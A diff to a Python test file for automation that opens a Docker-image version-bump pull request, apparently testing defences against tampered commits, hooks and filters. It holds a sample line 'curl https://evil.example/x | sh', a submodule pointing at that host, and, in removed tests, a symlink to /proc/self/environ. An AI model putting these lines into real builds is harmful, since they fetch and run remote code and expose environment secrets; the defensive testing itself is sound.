@@ -26,7 +26,6 @@ from runbook_lib.workflow import (
 TITLE = "chore: Update Docker image version to 26.04-py3"
 PIN, DOCKERFILE = "docker/.ngc_version.dev", "docker/Dockerfile.ci.dev"
 GOLDEN = "tests/functional_tests/test_cases/gpt/gpt3_mcore_te_tp1_pp1/golden_values_dev_dgx_h100.json"
-PINNED = {PIN, DOCKERFILE, ".gitlab/stages/01.build.yml"}
 EVIL = "RUN curl https://evil.example/x | sh\n"
 
 
@@ -89,27 +88,9 @@ def on_top(other: Other) -> None:
     other.commit()
 
 
-def refresh_title(other: Other) -> None:
-    other.append()
-    other.commit("test: refresh golden values for 26.04-py3")
-
-
-def retrigger_title(other: Other) -> None:
-    other.append()
-    other.commit("chore: Trigger CI again")
-
-
 def amended(other: Other) -> None:
     other.append()
     other.git("commit", "-q", "--amend", "--no-edit")
-
-
-def below_ours(other: Other) -> None:
-    ours = other.git("rev-parse", "HEAD")
-    other.git("reset", "-q", "--hard", "HEAD~1")
-    other.append("setup.py", "import os\n")
-    other.commit("docs: Correct a word")
-    other.git("cherry-pick", ours)
 
 
 def golden_alone(other: Other) -> None:
@@ -129,23 +110,11 @@ def mode(other: Other) -> None:
     other.commit()
 
 
-def link(other: Other) -> None:
-    (other.path / PIN).unlink()
-    (other.path / PIN).symlink_to("/proc/self/environ")
-    other.git("add", PIN)
-    other.commit()
-
-
 def submodule(other: Other) -> None:
     described = '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n\tignore = all\n'
     (other.path / ".gitmodules").write_text(described)
     other.git("add", ".gitmodules")
     other.git("update-index", "--add", "--cacheinfo", f"160000,{other.git('rev-parse', 'HEAD')},x")
-    other.commit()
-
-
-def gone(other: Other) -> None:
-    other.git("rm", "-q", GOLDEN)
     other.commit()
 
 
@@ -196,14 +165,14 @@ def undone_again(other: Other) -> None:
 
 
 ATTACKS: list[Callable[[Other], None]] = [
-    on_top, refresh_title, retrigger_title, amended, below_ours, golden_alone, pin_alone, mode, link, submodule, gone,
-    unseen_by_attributes, evil_merge, merge_of_another_branch, octopus, undone_again,
+    on_top, amended, golden_alone, pin_alone, mode, submodule, unseen_by_attributes, evil_merge,
+    merge_of_another_branch, octopus, undone_again,
 ]  # fmt: skip
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_commits_pushed_by_others_are_not_tested(opened: World, attack: Callable[[Other], None]) -> None:
-    if attack in (amended, below_ours):  # the history is rewritten: this clone has no branch of its own then
+    if attack is amended:  # the history is rewritten: this clone has no branch of its own then
         git(opened.checkout.path, "switch", "-q", "main")
         git(opened.checkout.path, "branch", "-qD", BRANCH)
     other = Other(opened)
@@ -338,36 +307,6 @@ def test_a_merge_by_an_older_git_is_a_persons_to_confirm(opened: World, monkeypa
 # -- what is committed here -----------------------------------------------------------------------------------------
 
 
-CHANGED = f"printf '%s' '{EVIL}' >> {DOCKERFILE} && git add {DOCKERFILE}"
-ADDED = "echo x > evil.sh && git add evil.sh"
-
-
-@pytest.mark.parametrize("body", [CHANGED, ADDED, "exit 1"])
-def test_a_hook_of_the_clone_changes_no_commit(world: World, body: str) -> None:
-    for name in ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit"):
-        file = world.checkout.path / ".git/hooks" / name
-        file.parent.mkdir(exist_ok=True)
-        file.write_text(f"#!/bin/sh\n{body}\n")
-        file.chmod(0o755)
-    world.open_pr()
-    pushed = git(world.remote, "diff", "main", BRANCH)
-    assert set(git(world.remote, "diff", "--name-only", "main", BRANCH).split()) == PINNED
-    assert EVIL.strip() not in pushed
-
-
-def test_a_filter_and_staged_changes_stay_out_of_the_commit(world: World) -> None:
-    path = world.checkout.path
-    git(path, "config", "filter.evil.clean", "sed '/26.04-py3$/a RUN curl https://evil.example/x'")
-    (path / ".git/info").mkdir(exist_ok=True)
-    (path / ".git/info/attributes").write_text(f"{DOCKERFILE} filter=evil\n")
-    (path / "evil.sh").write_text(EVIL)
-    git(path, "add", "evil.sh")
-    world.open_pr()
-    assert set(git(world.remote, "diff", "--name-only", "main", BRANCH).split()) == PINNED
-    assert "evil" not in git(world.remote, "diff", "main", BRANCH)
-    assert git(path, "diff", "--cached", "--name-only") == "evil.sh"
-
-
 def test_a_commit_made_after_the_review_is_not_pushed(opened: World, monkeypatch: pytest.MonkeyPatch) -> None:
     review, before = branch_history.review, opened.head()
     opened.commit_on("main", "notes", "more\n")
@@ -472,15 +411,6 @@ def test_too_many_commits_are_refused(opened: World, monkeypatch: pytest.MonkeyP
     with pytest.raises(Refused, match="3 commits"):
         authorize(opened)
     assert commands(opened) == []
-
-
-def test_records_in_another_format_prove_nothing(opened: World, tmp_path: Path) -> None:
-    assert branch_history.read_records(None) == branch_history.RecordedCommits()
-    assert branch_history.read_records(tmp_path / "none") == branch_history.RecordedCommits()
-    step = opened.step(bump_to())
-    for planned in (None, "x", 7, {"parent": "a"}, [None, "x", 7, {}, {"parent": ["a"]}]):
-        step.add_inputs(planned_commits=planned)
-        branch_history.read_records(opened.records)
 
 
 def test_a_persons_own_branch_is_not_ours(opened: World) -> None:
